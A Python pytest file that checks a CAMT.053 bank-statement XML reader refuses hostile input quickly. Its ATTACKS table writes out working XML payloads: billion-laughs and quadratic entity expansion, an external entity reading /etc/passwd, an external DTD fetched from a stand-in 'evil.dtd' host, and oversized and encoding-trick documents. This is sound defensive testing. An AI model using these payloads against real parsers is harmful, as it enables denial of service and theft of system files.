"""Attacks by XML are refused by name, at once and in little memory."""

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from consumers.formats import camt053
from consumers.formats.errors import UnreadableFileError

LAUGHS = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "ha"}{"&l0;" * 9 if n > 1 else ""}">'
    for n in range(12)
)
BODY = "<Document><BkToCstmrStmt>{}</BkToCstmrStmt></Document>"
ATTACKS = {
    "billion laughs": f"<!DOCTYPE D [{LAUGHS}]>" + BODY.format("&l11;"),
    "external entity": '<!DOCTYPE D [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + BODY.format("&x;"),
    "external document type": '<!DOCTYPE D SYSTEM "http://192.0.2.1/evil.dtd">' + BODY.format(""),
    "quadratic blow-up": f'<!DOCTYPE D [<!ENTITY a "{"A" * 100_000}">]>'
    + BODY.format("&a;" * 9999),
    "undeclared entity": BODY.format("&nbsp;"),
    "deep nesting": BODY.format("<Stmt>" + "<a>" * 100_000),
    "many names": BODY.format("".join(f"<a{n}/>" for n in range(30_000))),
    "one huge text": BODY.format("<Stmt><Id>" + "x" * 5_000_000 + "</Id></Stmt>"),
    "one huge comment": BODY.format("<!--" + "x" * 5_000_000 + "-->"),
    "one huge attribute": BODY.format('<Stmt a="' + "x" * 5_000_000 + '"/>'),
    "many fields": BODY.format("<Stmt>" + "<Id>1</Id>" * 300_000 + "</Stmt>"),
    "entity-like encoding": "<?xml version='1.0' encoding='utf-7'?>" + BODY.format("+ADw-"),
    "codec of a program": "<?xml version='1.0' encoding='unicode_escape'?>" + BODY.format(""),
    "unknown encoding": "<?xml version='1.0' encoding='klingon'?>" + BODY.format(""),
    "control character": BODY.format("<Stmt><Id>\x01</Id></Stmt>"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_quickly(tmp_path: Path, name: str) -> None:
    path = tmp_path / "attack.xml"
    path.write_text(ATTACKS[name], encoding="utf-8")
    started = time.process_time()
    with pytest.raises(UnreadableFileError, match=r"attack\.xml, line \d+: XML"):
        list(camt053.read(path))
    assert time.process_time() - started < 2


def test_a_document_type_is_refused_in_utf_16_too(tmp_path: Path) -> None:
    path = tmp_path / "attack.xml"
    path.write_bytes(ATTACKS["external entity"].encode("utf-16"))
    with pytest.raises(UnreadableFileError, match="DOCTYPE"):
        list(camt053.read(path))


def test_an_entry_of_too_many_payments_is_refused(
    camt_file: Callable[..., Path], entry: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(camt053, "PAYMENTS_PER_ENTRY_MAX", 3)
    path = camt_file(entry(extra=f"<NtryDtls>{'<TxDtls></TxDtls>' * 4}</NtryDtls>"))
    with pytest.raises(UnreadableFileError, match="TxDtls"):
        list(camt053.read(path))


def test_a_file_of_too_many_rows_is_refused(
    camt_file: Callable[..., Path], entry: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(camt053, "FILE_ROWS_MAX", 3)
    rows: Iterator[object] = camt053.read(camt_file(entry() * 4))
    with pytest.raises(UnreadableFileError, match="rows '4'"):
        list(rows)
